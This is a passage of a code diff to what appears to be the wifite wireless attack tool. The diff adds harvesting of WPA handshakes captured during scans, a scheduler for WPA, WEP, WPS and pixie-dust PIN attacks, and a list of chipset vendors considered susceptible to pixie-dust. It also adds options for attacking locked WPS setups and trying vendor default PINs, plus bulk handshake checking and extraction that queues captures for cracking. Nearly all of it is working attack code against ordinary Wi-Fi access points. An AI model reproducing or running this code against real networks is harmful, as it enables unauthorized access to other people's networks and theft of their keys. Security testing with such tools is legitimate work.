+        eapol_tracker = HandshakeTracker(self.RUN_CONFIG.WPA_HANDSHAKE_POLICY)
         try:
             deauth_sent = 0.0
             old_targets = []
@@ -965,6 +1405,8 @@ class RunEngine:
                     self.RUN_CONFIG.exit_gracefully(1)
 
                 (targets, clients) = self.parse_csv(csv_file)
+                if self.RUN_CONFIG.WPA_HARVEST_SCAN and not self.RUN_CONFIG.WPA_DISABLE:
+                    eapol_tracker.feed_file(eapol_reader)
 
                 # Remove any already cracked networks if configured to do so
                 if self.RUN_CONFIG.SHOW_ALREADY_CRACKED == False:
@@ -1107,7 +1549,7 @@ class RunEngine:
                         if self.RUN_CONFIG.WPS_DISABLE:
                             print("  %3s" % (O + 'n/a' + W), end=' ')
                         else:
-                            print("  %3s" % (G + 'wps' + W if target.wps else R + ' no' + W), end=' ')
+                            print("  %3s" % wps_status(target), end=' ')
                         # Clients
                         client_text = ''
                         for c in clients:
@@ -1143,6 +1585,10 @@ class RunEngine:
         if not self.RUN_CONFIG.WPS_DISABLE:
             wps_check_targets(targets, cap_file)
 
+        if self.RUN_CONFIG.WPA_HARVEST_SCAN and not self.RUN_CONFIG.WPA_DISABLE:
+            eapol_tracker.feed_file(eapol_reader)
+            self.harvest_handshakes(iface, targets, eapol_reader, eapol_tracker)
+
         remove_airodump_files(airodump_file_prefix)
 
         if stop_scanning:
@@ -1198,7 +1644,7 @@ class RunEngine:
             if self.RUN_CONFIG.WPS_DISABLE:
                 print("  %3s" % (O + 'n/a' + W), end=' ')
             else:
-                print("  %3s" % (G + 'wps' + W if target.wps else R + ' no' + W), end=' ')
+                print("  %3s" % wps_status(target), end=' ')
             # Clients
             client_text = ''
             for c in clients:
@@ -1241,6 +1687,46 @@ class RunEngine:
 
         return (victims, clients)
 
+    def harvest_handshakes(self, iface, targets, reader, tracker):
+        """
+            Saves the handshakes of listed WPA access points found in the scan's capture,
+            checked like captured ones, and queues them for cracking.
+        """
+        catalog = handshake_catalog()
+        for t in targets:
+            if not TargetScheduler.attacks_wpa(self.RUN_CONFIG, t): continue
+            handshake = tracker.handshake_for(t.bssid)
+            if handshake is None: continue
+
+            temp_cap_file = os.path.join(self.RUN_CONFIG.temp, 'harvest.cap')
+            wpa_attack = WPAAttack(iface, t, [], self.RUN_CONFIG)
+            if not write_handshake(reader, tracker, handshake, temp_cap_file) or \
+                    not wpa_attack.has_handshake(t, temp_cap_file):
+                remove_file(temp_cap_file)
+                continue
+            self.RUN_CONFIG.WPA_HARVESTED.append(t.bssid)
+
+            duplicate = catalog.duplicate_of(wpa_attack.handshake, self.RUN_CONFIG.WPA_HANDSHAKE_POLICY)
+            if duplicate is not None:
+                remove_file(temp_cap_file)
+                print(GR + ' [+]' + W + ' scan captured the handshake of %s again (same as "%s")' % (
+                G + t.ssid + W, G + duplicate.filename + W))
+                self.RUN_CONFIG.queue_for_cracking(duplicate)
+                continue
+
+            try:
+                os.mkdir(self.RUN_CONFIG.WPA_HANDSHAKE_DIR + os.sep)
+            except OSError:
+                pass
+            save_as = new_handshake_filename(t.ssid, t.bssid)
+            rename(temp_cap_file, save_as)
+            print_green(GR + ' [+]' + W + ' scan captured the %sHandshake%s of %s! Saved as "%s"' % (
+            G, W, G + t.ssid + W, G + save_as + W))
+            self.RUN_CONFIG.WPA_FINDINGS.append('%s (%s) Handshake Captured During Scan' % (t.ssid, t.bssid))
+            self.RUN_CONFIG.WPA_FINDINGS.append('Saved as %s' % (save_as))
+            self.RUN_CONFIG.WPA_FINDINGS.append('')
+            self.RUN_CONFIG.WPA_CAPS_TO_CRACK.append(catalog.archive(save_as, t.ssid, wpa_attack.handshake))
+
     def Start(self):
         self.RUN_CONFIG.CreateTempFolder()
         self.RUN_CONFIG.handle_args()
@@ -1258,12 +1744,19 @@ class RunEngine:
             iface = self.get_iface()
         self.RUN_CONFIG.THIS_MAC = get_mac_address(iface)  # Store current MAC address
 
+        if self.RUN_CONFIG.CAPTURE_PERSISTENT:
+            # Started before the scan, so what the scan sees is captured (and its clients known) too
+            self.RUN_CONFIG.CAPTURE_SERVICE = CaptureService(iface, self.RUN_CONFIG)
+            self.RUN_CONFIG.CAPTURE_SERVICE.start()
+
         (targets, clients) = self.scan(iface=iface, channel=self.RUN_CONFIG.TARGET_CHANNEL)
 
+        catalog = handshake_catalog()
         try:
             index = 0
             while index < len(targets):
                 target = targets[index]
+                skip = False
                 # Check if we have already cracked this target
                 for already in RUN_CONFIG.CRACKED_TARGETS:
                     if already.bssid == targets[index].bssid:
@@ -1272,20 +1765,22 @@ class RunEngine:
                             print(R + ' [!] %s' % (C + already.ssid + W + ': "' + G + already.key + W + '"'))
                             ri = input(
                                 GR + ' [+] ' + W + 'Do you want to crack this access point again? (' + G + 'y/' + O + 'n' + W + '): ')
-                            if ri.lower() == 'n':
-                                targets.pop(index)
-                                index -= 1
+                            skip = ri.lower() == 'n'
                         else:
-                            targets.pop(index)
-                            index -= 1
+                            skip = True
                         break
+                if skip:
+                    targets.pop(index)
+                    continue
 
                 # Check if handshakes already exist, ask user whether to skip targets or save new handshakes
-                handshake_file = RUN_CONFIG.WPA_HANDSHAKE_DIR + os.sep + re.sub(r'[^a-zA-Z0-9]', '', target.ssid) \
-                                 + '_' + target.bssid.replace(':', '-') + '.cap'
-                if os.path.exists(handshake_file):
-                    print(R + '\n [!] ' + O + 'You Already Have Handshake File For %s:' % (C + target.ssid + W))
-                    print('        %s\n' % (G + handshake_file + W))
+                saved = catalog.handshakes_for(target.bssid)
+                if len(saved) > 0 and target.bssid not in self.RUN_CONFIG.WPA_HARVESTED:
+                    print(R + '\n [!] ' + O + 'You Already Have Handshake File%s For %s:' % (
+                        '' if len(saved) == 1 else 's', C + target.ssid + W))
+                    for capfile in saved:
+                        print('        %s' % (G + capfile.filename + W))
+                    print('')
                     print(GR + ' [+]' + W + ' Do you want to ' + G + '[s]kip' + W + ', ' + O + '[c]apture again' + W + ', or ' + R + '[o]verwrite' + W + '?')
                     ri = 'x'
                     while ri != 's' and ri != 'c' and ri != 'o':
@@ -1296,7 +1791,8 @@ class RunEngine:
                         targets.pop(index)
                         index -= 1
                     elif ri == 'o':
-                        remove_file(handshake_file)
+                        for capfile in list(saved):
+                            catalog.remove(capfile)
                         continue
                 index += 1
 
@@ -1305,49 +1801,79 @@ class RunEngine:
             print('\n ' + R + '(^C)' + O + ' interrupted\n')
             self.RUN_CONFIG.exit_gracefully(0)
 
+        if self.RUN_CONFIG.WPA_CRACK_SAVED and not self.RUN_CONFIG.WPA_DONT_CRACK:
+            cracked = [t.bssid for t in self.RUN_CONFIG.CRACKED_TARGETS]
+            for capfile in catalog.crackable(self.RUN_CONFIG.WPA_HANDSHAKE_POLICY):
+                if self.RUN_CONFIG.SHOW_ALREADY_CRACKED or capfile.bssid not in cracked:
+                    self.RUN_CONFIG.WPA_CAPS_TO_CRACK.append(capfile)
+            print(GR + ' [+]' + W + ' %s%d%s saved handshake%s queued for cracking' % (
+                G, len(self.RUN_CONFIG.WPA_CAPS_TO_CRACK), W, '' if len(self.RUN_CONFIG.WPA_CAPS_TO_CRACK) == 1 else 's'))
+
         wpa_success = 0
         wep_success = 0
         wpa_total = 0
         wep_total = 0
 
-        self.RUN_CONFIG.TARGETS_REMAINING = len(targets)
-        for t in targets:
-            self.RUN_CONFIG.TARGETS_REMAINING -= 1
+        scheduler = TargetScheduler(self.RUN_CONFIG, clients)
+        for (index, t) in enumerate(targets):
+            scheduler.add(t, index)
 
-            # Build list of clients connected to target
-            ts_clients = []
-            for c in clients:
-                if c.station == t.bssid:
-                    ts_clients.append(c)
+        capture = None  # ChannelCapture shared by the WPA attacks on one channel
+        while True:
+            scheduler.update()
+            job = scheduler.pop(None if capture is None else capture.channel)
+            if job is None: break
+            (attack, t) = job
+            self.RUN_CONFIG.TARGETS_REMAINING = scheduler.remaining(t)
+
+            # One radio: the shared capture only lives while attacks stay on its channel
+            if capture is not None and capture.channel != t.channel:
+                capture.stop()
+                capture = None
+            if attack == 'wpa' and capture is None:
+                capture = ChannelCapture(iface, t.channel, [t.bssid] + scheduler.wpa_bssids(t.channel), self.RUN_CONFIG)
 
             print('')
-            if t.encryption.find('WPA') != -1:
-                need_handshake = True
-                if not self.RUN_CONFIG.WPS_DISABLE and t.wps:
-                    wps_attack = WPSAttack(iface, t, self.RUN_CONFIG)
-                    need_handshake = not wps_attack.RunAttack()
-                    wpa_total += 1
-
-                if not need_handshake: wpa_success += 1
-                if self.RUN_CONFIG.TARGETS_REMAINING < 0: break
-
-                if not self.RUN_CONFIG.PIXIE and not self.RUN_CONFIG.WPA_DISABLE and need_handshake:
-                    wpa_total += 1
-                    wpa_attack = WPAAttack(iface, t, ts_clients, self.RUN_CONFIG)
-                    if wpa_attack.RunAttack():
-                        wpa_success += 1
-
-            elif t.encryption.find('WEP') != -1:
-                wep_total += 1
-                wep_attack = WEPAttack(iface, t, ts_clients, self.RUN_CONFIG)
-                if wep_attack.RunAttack():
-                    wep_success += 1
-
+            success = False
+            if attack == 'pin':
+                success = WPSAttack(iface, t, self.RUN_CONFIG).attack_wps_pins([('pixie-dust', scheduler.pins[t.bssid])])
+                if success: wpa_success += 1
+            elif attack == 'wps':
+                wpa_total += 1
+                success = WPSAttack(iface, t, self.RUN_CONFIG).RunAttack()
+                if success: wpa_success += 1
+            elif attack == 'wpa':
+                wpa_total += 1
+                success = WPAAttack(iface, t, scheduler.clients_of(t), self.RUN_CONFIG, capture).RunAttack()
+                if success: wpa_success += 1
             else:
-                print_red(R + ' Unknown encryption:', t.encryption, W)
+                wep_total += 1
+                success = WEPAttack(iface, t, scheduler.clients_of(t), self.RUN_CONFIG).RunAttack()
+                if success: wep_success += 1
+            scheduler.finished(attack, t, success, capture)
 
             # If user wants to stop attacking
-            if self.RUN_CONFIG.TARGETS_REMAINING <= 0: break
+            if self.RUN_CONFIG.TARGETS_REMAINING < 0: break
+        if capture is not None:
+            capture.stop()
+
+        if self.RUN_CONFIG.WPS_PIXIE_POOL is not None:
+            # PINs the pixie-dust attack computed after the radio moved on: get their WPA keys
+            pool = self.RUN_CONFIG.WPS_PIXIE_POOL
+            outstanding = pool.outstanding()
+            if len(outstanding) > 0:
+                print(GR + '\n [+]' + W + ' waiting for %s%d pixie-dust computation%s%s (%sCTRL+C%s to skip)' % (
+                G, len(outstanding), '' if len(outstanding) == 1 else 's', W, G, W))
+                try:
+                    for bssid in outstanding:
+                        pool.wait(bssid, float('inf'), force=True)
+                except KeyboardInterrupt:
+                    print_red(R + '\n (^C)' + O + ' Pixie-dust computations skipped' + W)
+            for (t, pin) in pool.found():
+                print('')
+                WPSAttack(iface, t, self.RUN_CONFIG).attack_wps_pins([('pixie-dust', pin)])
+            pool.terminate()
+            self.RUN_CONFIG.WPS_PIXIE_POOL = None
 
         if wpa_total + wep_total > 0:
             # Attacks are done! Show results to user
@@ -1379,12 +1905,12 @@ class RunEngine:
                 for finding in self.RUN_CONFIG.WEP_FINDINGS:
                     print('        ' + C + finding + W)
 
-            caps = len(self.RUN_CONFIG.WPA_CAPS_TO_CRACK)
-            if caps > 0 and not self.RUN_CONFIG.WPA_DONT_CRACK:
-                print(GR + ' [+]' + W + ' starting ' + G + 'WPA cracker' + W + ' on %s%d handshake%s' % (
-                G, caps, W if caps == 1 else 's' + W))
-                for cap in self.RUN_CONFIG.WPA_CAPS_TO_CRACK:
-                    wpa_crack(cap, self.RUN_CONFIG)
+        caps = len(self.RUN_CONFIG.WPA_CAPS_TO_CRACK)
+        if caps > 0 and not self.RUN_CONFIG.WPA_DONT_CRACK:
+            print(GR + ' [+]' + W + ' starting ' + G + 'WPA cracker' + W + ' on %s%d handshake%s' % (
+            G, caps, W if caps == 1 else 's' + W))
+            for cap in self.RUN_CONFIG.WPA_CAPS_TO_CRACK:
+                wpa_crack(cap, self.RUN_CONFIG)
 
         print('')
         self.RUN_CONFIG.exit_gracefully(0)
@@ -1455,7 +1981,7 @@ class RunEngine:
             Prints results to console.
         """
         # we're not running an attack
-        wpa_attack = WPAAttack(None, None, None, None)
+        wpa_attack = WPAAttack(None, None, None, self.RUN_CONFIG)
 
         if self.RUN_CONFIG.TARGET_ESSID == '' and self.RUN_CONFIG.TARGET_BSSID == '':
             print(R + ' [!]' + O + ' Target SSID and BSSID are required to check for handshakes')
@@ -1494,6 +2020,9 @@ class RunEngine:
             G + 'found!' + W if result else O + 'not found' + W))
         else:
             print(R + ' [!]' + O + ' program not found: cowpatty')
+        result = wpa_attack.has_handshake_eapol(t, capfile)
+        print(GR + ' [+]' + W + '    ' + G + 'eapol' + W + ' (%s):\t\t %s' % (self.RUN_CONFIG.WPA_HANDSHAKE_POLICY,
+            G + 'found! (' + wpa_attack.handshake.describe_pair() + ')' + W if result else O + 'not found' + W))
         if program_exists('tshark'):
             result = wpa_attack.has_handshake_tshark(t, capfile)
             print(GR + ' [+]' + W + '    ' + G + 'tshark' + W + ':\t\t\t %s' % (
@@ -1511,6 +2040,109 @@ class RunEngine:
 
         self.RUN_CONFIG.exit_gracefully(0)
 
+    def check_capfiles(self, capfiles):
+        """
+            Checks many capture files for handshakes, spread over a pool of processes.
+            Prints a report (text, json or csv) with one entry per file and per BSSID.
+        """
+        jobs = self.RUN_CONFIG.CHECK_JOBS if self.RUN_CONFIG.CHECK_JOBS > 0 else multiprocessing.cpu_count()
+        jobs = min(jobs, len(capfiles))
+        if self.RUN_CONFIG.CHECK_REPORT == 'text':
+            print(GR + ' [+]' + W + ' Checking %s%d%s capture file%s (%d at once)' % (
+                G, len(capfiles), W, '' if len(capfiles) == 1 else 's', jobs))
+
+        # The workers get the configuration explicitly: they do not inherit it unless forked
+        pool = multiprocessing.Pool(processes=jobs, initializer=check_worker_init, initargs=(self.RUN_CONFIG,))
+        try:
+            results = pool.map(check_capfile, capfiles, chunksize=1)
+        except KeyboardInterrupt:
+            pool.terminate()
+            print_red(R + '\n (^C)' + O + ' Check Interrupted' + W)
+            self.RUN_CONFIG.exit_gracefully(1)
+        pool.close()
+        pool.join()
+
+        columns = ['file', 'bssid', 'essid', 'client', 'eapol', 'pair', 'tshark', 'pyrit', 'cowpatty', 'aircrack', 'error']
+        if self.RUN_CONFIG.CHECK_REPORT == 'json':
+            print(json.dumps(results, indent=2))
+        elif self.RUN_CONFIG.CHECK_REPORT == 'csv':
+            writer = csv.writer(stdout)
+            writer.writerow(columns)
+            for result in results:
+                if len(result['bssids']) == 0:
+                    writer.writerow([result['file']] + [''] * (len(columns) - 2) + [result['error']])
+                for ap in result['bssids']:
+                    writer.writerow([result['file']] + ['' if ap.get(c) is None else ap.get(c) for c in columns[1:]])
+        else:
+            for result in results:
+                print(GR + '\n [+]' + W + ' %s' % (G + result['file'] + W))
+                if result['error'] != '':
+                    print(R + ' [!]' + O + '    %s' % (result['error']) + W)
+                elif len(result['bssids']) == 0:
+                    print(GR + ' [+]' + W + '    ' + O + 'no EAPOL frames found' + W)
+                for ap in result['bssids']:
+                    checks = []
+                    for program in columns[6:10]:
+                        if ap[program] is not None:
+                            checks.append('%s: %s' % (program, G + 'found' + W if ap[program] else O + 'not found' + W))
+                    print(GR + ' [+]' + W + '    %s (%s): %s %s' % (
+                        C + ap['essid'] + W, G + ap['bssid'] + W,
+                        G + 'handshake (' + ap['pair'] + ')' + W if ap['eapol'] else O + 'no handshake' + W,
+                        ', '.join(checks)))
+        print('')
+
+        self.RUN_CONFIG.exit_gracefully(0)
+
+    def extract_handshakes(self, capfile):
+        """
+            Reads capfile once, indexing the ESSID of every access point and the EAPOL
+            exchanges of every (access point, client) pair. Saves one stripped handshake
+            per crackable pair to the handshake directory and prints them.
+            Memory use depends on the number of access points and clients, not the file size.
+        """
+        print(GR + ' [+]' + W + ' Extracting handshakes from %s (policy: %s)...' % (
+            G + capfile + W, self.RUN_CONFIG.WPA_HANDSHAKE_POLICY))
+        reader = PcapReader(capfile)
+        tracker = HandshakeTracker(self.RUN_CONFIG.WPA_HANDSHAKE_POLICY)
+        tracker.feed_file(reader)
+
+        try:
+            os.mkdir(self.RUN_CONFIG.WPA_HANDSHAKE_DIR + os.sep)
+        except OSError:
+            pass
+
+        found = 0
+        saved_bssids = set()  # Access points a handshake was saved for
+        merged = 0  # Same exchange as a saved handshake, which stands for it (and is cracked with -cracksaved)
+        for hs in sorted(tracker.handshakes.values(), key=lambda hs: (hs.bssid, hs.client)):
+            if len(hs.pair) == 0: continue
+            essid = tracker.beacons[hs.bssid][1] if hs.bssid in tracker.beacons else ''
+            duplicate = handshake_catalog().duplicate_of(hs, self.RUN_CONFIG.WPA_HANDSHAKE_POLICY)
+            if duplicate is not None:
+                print(GR + ' [+]' + W + '    %s (%s) client %s: %s already saved as %s' % (
+                    C + essid + W, G + hs.bssid.upper() + W, G + hs.client + W, G + hs.describe_pair() + W,
+                    G + duplicate.filename + W))
+                merged += 1
+                continue
+            save_as = new_handshake_filename(essid, hs.bssid.upper())
+            if not write_handshake(reader, tracker, hs, save_as):
+                print(R + ' [!]' + O + ' Unable to save handshake of %s' % (hs.bssid.upper()) + W)
+                continue
+            handshake_catalog().archive(save_as, essid, hs)
+            found += 1
+            saved_bssids.add(hs.bssid)
+            print(GR + ' [+]' + W + '    %s (%s) client %s: %s -> %s' % (
+                C + essid + W, G + hs.bssid.upper() + W, G + hs.client + W, G + hs.describe_pair() + W, G + save_as + W))
+
+        print(GR + ' [+]' + W + ' %s%d%s handshake%s saved from %d access point%s' % (
+            G, found, W, '' if found == 1 else 's', len(saved_bssids), '' if len(saved_bssids) == 1 else 's'))
+        if merged > 0:
+            print(GR + ' [+]' + W + ' %s%d%s already saved: use %s-cracksaved%s to crack every saved handshake' % (
+                G, merged, W, G, W))
+        print('')
+
+        self.RUN_CONFIG.exit_gracefully(0)
+
 
 ##################
 # MAIN FUNCTIONS #
@@ -1529,16 +2161,45 @@ def rename(old, new):
     except os.error as detail:
         if detail.errno == errno.EXDEV:
             try:
-                copy(old, new)
+                copy_file(old, new)
             except:
-                os.unlink(new)
+                remove_file(new)
                 raise
-                os.unlink(old)
+            os.unlink(old)
         # if desired, deal with other errors
         else:
             raise
 
 
+FICLONE = 0x40049409  # ioctl(dest, FICLONE, src) shares src's data blocks (btrfs, xfs)
+
+
+def copy_file(src, dst):
+    """
+        Copies file 'src' to 'dst' without passing the data through Python: as a reflink
+        where the filesystem supports it, else with copy_file_range() or sendfile().
+    """
+    with open(src, 'rb') as fin, open(dst, 'wb') as fout:
+        try:
+            import fcntl
+            fcntl.ioctl(fout.fileno(), FICLONE, fin.fileno())
+            return
+        except (ImportError, OSError):
+            pass
+        if hasattr(os, 'copy_file_range'):
+            try:
+                remaining = os.fstat(fin.fileno()).st_size
+                while remaining > 0:
+                    copied = os.copy_file_range(fin.fileno(), fout.fileno(), remaining)
+                    if copied == 0:
+                        break
+                    remaining -= copied
+                return
+            except OSError:
+                pass  # Not between these filesystems (e.g. tmpfs to disk on recent kernels)
+    copyfile(src, dst)  # Uses sendfile() on Linux
+
+
 def banner(RUN_CONFIG):
     """
         Displays ASCII art of the highest caliber.
@@ -1568,7 +2229,10 @@ def help():
 
     print(head + '   COMMANDS' + W)
     print(sw + '\t-check ' + var + '<file>\t' + des + 'check capfile ' + var + '<file>' + des + ' for handshakes.' + W)
+    print(sw + '\t-extract ' + var + '<file>\t' + des + 'save every handshake in ' + var + '<file>' + des + ' to the handshake directory.' + W)
     print(sw + '\t-cracked    \t' + des + 'display previously-cracked access points' + W)
+    print(sw + '\t-jobs ' + var + '<n>   \t' + des + 'number of capture files to check at once ' + de + '[cpus]' + W)
+    print(sw + '\t-report ' + var + '<f> \t' + des + 'check report format: text, json or csv ' + de + '[text]' + W)
     print(sw + '\t-recrack    \t' + des + 'allow recracking of previously cracked access points' + W)
     print('')
 
@@ -1584,6 +2248,8 @@ def help():
     print(sw + '\t-showb       \t' + des + 'display target BSSIDs after scan               ' + de + '[off]' + W)
     print(sw + '\t-pow ' + var + '<db>   \t' + des + 'attacks any targets with signal strenghth > ' + var + 'db ' + de + '[0]' + W)
     print(sw + '\t-quiet       \t' + des + 'do not print list of APs during scan           ' + de + '[off]' + W)
+    print(sw + '\t-tmpfs ' + var + '<MB>  \t' + des + 'keep temp files in /dev/shm if MB are free     ' + de + '[256]' + W)
+    print(sw + '\t-inorder    \t' + des + 'attack in the order selected, not likeliest first ' + de + '[off]' + W)
     print('')
 
     print(head + '\n   WPA' + W)
@@ -1597,6 +2263,11 @@ def help():
     print(sw + '\t-pyrit      \t' + des + 'verify handshake using pyrit    ' + de + '[off]' + W)
     print(sw + '\t-tshark     \t' + des + 'verify handshake using tshark   ' + de + '[on]' + W)
     print(sw + '\t-cowpatty   \t' + des + 'verify handshake using cowpatty ' + de + '[off]' + W)
+    print(sw + '\t-hspolicy ' + var + '<p>\t' + des + 'handshake policy: strict, 3of4 or pair ' + de + '[3of4]' + W)
+    print(sw + '\t-hsfilter   \t' + des + 'capture only handshake frames (dumpcap) ' + de + '[off]' + W)
+    print(sw + '\t-capsvc     \t' + des + 'one capture from scan on, retuned with iw ' + de + '[off]' + W)
+    print(sw + '\t-noharvest  \t' + des + 'do not save handshakes seen during scan   ' + de + '[off]' + W)
+    print(sw + '\t-cracksaved \t' + des + 'also crack handshakes saved in hs/ ' + de + '[off]' + W)
 
     print(head + '\n   WEP' + W)
     print(sw + '\t-wep        \t' + des + 'only target WEP networks ' + de + '[off]' + W)
@@ -1611,12 +2282,19 @@ def help():
     print(sw + '\t-nofakeauth \t' + des + 'stop attack if fake authentication fails    ' + de + '[off]' + W)
     print(sw + '\t-wepca ' + GR + '<n>  \t' + des + 'start cracking when number of ivs surpass n ' + de + '[10000]' + W)
     print(sw + '\t-wepsave    \t' + des + 'save a copy of .cap files to this directory ' + de + '[off]' + W)
+    print(sw + '\t-wepivs     \t' + des + 'capture only IVs (.ivs), not full packets   ' + de + '[off]' + W)
+    print(sw + '\t-wepstall ' + var + '<sec>\t' + des + 'next attack after sec without new ivs       ' + de + '[60]' + W)
+    print(sw + '\t-wepreauth ' + var + '<sec>\t' + des + 'keep fake auth alive, re-associate every sec ' + de + '[30]' + W)
+    print(sw + '\t-noptw      \t' + des + 'do not recover the key in-process (PTW)     ' + de + '[off]' + W)
 
     print(head + '\n   WPS' + W)
     print(sw + '\t-wps       \t' + des + 'only target WPS networks         ' + de + '[off]' + W)
     print(sw + '\t-wpst ' + var + '<sec>  \t' + des + 'max wait for new retry before giving up (0: never)  ' + de + '[660]' + W)
     print(sw + '\t-wpsratio ' + var + '<per>\t' + des + 'min ratio of successful PIN attempts/total tries    ' + de + '[0]' + W)
     print(sw + '\t-wpsretry ' + var + '<num>\t' + des + 'max number of retries for same PIN before giving up ' + de + '[0]' + W)
+    print(sw + '\t-wpslocked  \t' + des + 'attack access points advertising a locked WPS setup ' + de + '[off]' + W)
+    print(sw + '\t-wpsfresh   \t' + des + 'start PIN attacks over, do not resume sessions      ' + de + '[off]' + W)
+    print(sw + '\t-nowpspins  \t' + des + 'do not try vendor default PINs before PIN search    ' + de + '[off]' + W)
 
     print(head + '\n   EXAMPLE' + W)
     print(sw + '\t./wifite.py ' + W + '-wps -wep -c 6 -pps 600' + W)
@@ -1640,8 +2318,9 @@ def help():
 
 def wps_check_targets(targets, cap_file, verbose=True):
     """
-        Uses tshark to check access points in cap_file for WPS functionality.
-        Sets "wps" field of targets that match to True.
+        Uses tshark to read the WPS information elements of beacons and probe responses in cap_file.
+        Sets the "wps" field of targets that advertise WPS to True, and their wps_* fields
+        (lock, version, manufacturer, model, device name) to what they advertise.
     """
     global RUN_CONFIG
 
@@ -1659,26 +2338,48 @@ def wps_check_targets(targets, cap_file, verbose=True):
         'tshark',
         '-r', cap_file, # Path to cap file
         '-n', # Don't resolve addresses
-        # Filter WPS broadcast packets
-        '-Y', 'wps.wifi_protected_setup_state && wlan.da == ff:ff:ff:ff:ff:ff',
+        # Beacons and probe responses with a WPS information element
+        '-Y', 'wps.wifi_protected_setup_state && (wlan.fc.type_subtype == 0x08 || wlan.fc.type_subtype == 0x05)',
         '-T', 'fields', # Only output certain fields
-        '-e', 'wlan.ta', # BSSID
+        '-e', 'wlan.bssid', # BSSID
         '-e', 'wps.ap_setup_locked', # Locked status
-        '-E', 'separator=,' # CSV
+        '-e', 'wps.version', # 0x10 for WPS 1.0 (and 2.0, which adds...)
+        '-e', 'wps.version2', # ...a version in the WFA vendor extension
+        '-e', 'wps.manufacturer',
+        '-e', 'wps.model_name',
+        '-e', 'wps.model_number',
+        '-e', 'wps.device_name',
+        '-E', 'separator=/t', # Names may hold commas
+        '-E', 'occurrence=f' # First value of repeated fields
     ]
     proc_tshark = Popen(cmd, stdout=PIPE, stderr=DN)
-    proc_tshark.wait()
     tshark_stdout, _ = proc_tshark.communicate()
-    tshark_stdout_str = tshark_stdout.decode('utf-8')
-    bssid_regex = re.compile(r'([0-9A-Fa-f]{2}[:-]){5}([0-9A-Fa-f]{2})')
 
-    bssids = []  # Define an empty list to store BSSIDs
+    # Probe responses usually carry more than beacons: keep every non-empty field seen
+    elements = {}
+    for line in tshark_stdout.decode('utf-8', 'replace').split('\n'):
+        fields = line.split('\t')
+        if len(fields) < 8 or fields[0] == '': continue
+        element = elements.setdefault(fields[0].upper(), [''] * 7)
+        for (i, value) in enumerate(fields[1:]):
+            if value.strip() != '':
+                element[i] = value.strip()
+
     for t in targets:
-        if t.bssid.upper() in bssids:
-            t.wps = True
-        if verbose:
-            print('done')
-            removed = 0
+        element = elements.get(t.bssid.upper())
+        if element is None: continue
+        (locked, version, version2, manufacturer, model_name, model_number, device_name) = element
+        t.wps = True
+        t.wps_locked = wps_field_int(locked) == 1
+        version = wps_field_int(version2) or wps_field_int(version)
+        t.wps_version = '%d.%d' % (version >> 4, version & 0x0f) if version else ''
+        t.wps_manufacturer = manufacturer
+        t.wps_model = ' '.join(m for m in (model_name, model_number) if m != '')
+        t.wps_device_name = device_name
+    if verbose:
+        print('done')
+
+    removed = 0
     if not RUN_CONFIG.WPS_DISABLE and RUN_CONFIG.WPA_DISABLE:
         i = 0
         while i < len(targets):
@@ -1690,6 +2391,40 @@ def wps_check_targets(targets, cap_file, verbose=True):
         if removed > 0 and verbose: print(GR + ' [+]' + O + ' removed %d non-WPS-enabled targets%s' % (removed, W))
 
 
+def wps_field_int(value):
+    """
+        Returns the value of a numeric tshark field ('0x01', '1'), 0 if it is empty or not a number.
+    """
+    try:
+        return int(value, 0)
+    except ValueError:
+        return 0
+
+
+# Chipset vendors whose WPS implementations (some or all) use weak E-S1/E-S2 nonces
+PIXIE_SUSCEPTIBLE_VENDORS = ('ralink', 'realtek', 'broadcom', 'mediatek')
+
+
+def wps_pixie_susceptible(target):
+    """
+        Returns True if the WPS information element of a target names a chipset vendor
+        known to be susceptible to the pixie-dust attack.
+    """
+    manufacturer = target.wps_manufacturer.lower()
+    return any(vendor in manufacturer for vendor in PIXIE_SUSCEPTIBLE_VENDORS)
+
+
+def wps_status(target):
+    """
+        Returns the (colored) WPS column of the target list: 'wps', 'lck' for locked or ' no'.
+    """
+    if not target.wps:
+        return R + ' no' + W
+    if target.wps_locked:
+        return O + 'lck' + W
+    return G + 'wps' + W
+
+
 def print_and_exec(cmd):
     """
         Prints and executes command "cmd". Also waits half a second
@@ -1710,25 +2445,74 @@ def print_and_exec(cmd):
 def remove_airodump_files(prefix):
     """
         Removes airodump output files for whatever file prefix ('wpa', 'wep', etc)
-        Used by wpa_get_handshake() and attack_wep()
+        Used by scan(); attacks clean up through their ArtifactTracker
     """
-    global RUN_CONFIG
-    remove_file(prefix + '-01.cap')
-    remove_file(prefix + '-01.csv')
-    remove_file(prefix + '-01.kismet.csv')
-    remove_file(prefix + '-01.kismet.netxml')
-    for filename in os.listdir(RUN_CONFIG.temp):
-        if filename.lower().endswith('.xor'): remove_file(RUN_CONFIG.temp + filename)
-    for filename in os.listdir('.'):
-        if filename.startswith('replay_') and filename.endswith('.cap'):
-            remove_file(filename)
-        if filename.endswith('.xor'): remove_file(filename)
-    # Remove .cap's from previous attack sessions
-    """i = 2
-    while os.path.exists(temp + 'wep-' + str(i) + '.cap'):
-        os.remove(temp + 'wep-' + str(i) + '.cap')
-        i += 1
+    for suffix in ArtifactTracker.AIRODUMP_SUFFIXES:
+        remove_file(prefix + suffix)
+
+
+class ArtifactTracker:
+    """
+        Keeps track of the temporary files written during one attack, so cleaning up
+        removes exactly those files instead of sweeping directories.
+        Programs which name their own output files (aireplay-ng's replay_*.cap and *.xor)
+        are started in the temp folder through popen(), never in the working directory.
     """
+    AIRODUMP_SUFFIXES = ['-01.cap', '-01.csv', '-01.kismet.csv', '-01.kismet.netxml', '-01.ivs', '-01.log.csv']
+    AIREPLAY_PREFIXES = ('replay_', 'fragment-')  # Files aireplay-ng names itself (replay_arp-0101-120000.cap ...)
+
+    def __init__(self, directory):
+        self.directory = directory
+        self.files = set()  # Files removed by clean()
+        self.existing = None  # Files in 'directory' before the first popen(), None until then
+
+    def add(self, filename):
+        """
+            Registers a file to be removed by clean(). Returns the filename.
+        """
+        self.files.add(filename)
+        return filename
+
+    def airodump(self, prefix):
+        """
+            Registers the output files of 'airodump-ng -w prefix'. Returns the prefix.
+        """
+        for suffix in self.AIRODUMP_SUFFIXES:
+            self.add(prefix + suffix)
+        return prefix
+
+    def popen(self, cmd, **kwargs):
+        """
+            Starts a program in the temp folder, for programs which name their own output files.
+        """
+        if self.existing is None:
+            self.existing = set(os.listdir(self.directory))
+        return Popen(cmd, cwd=self.directory, **kwargs)
+
+    def outputs(self, suffix):
+        """
+            Returns (and registers) the aireplay-ng output files ending with 'suffix' (or one
+            of a tuple of suffixes) which appeared in the temp folder since a program was
+            started with popen().
+        """
+        if self.existing is None:
+            return []
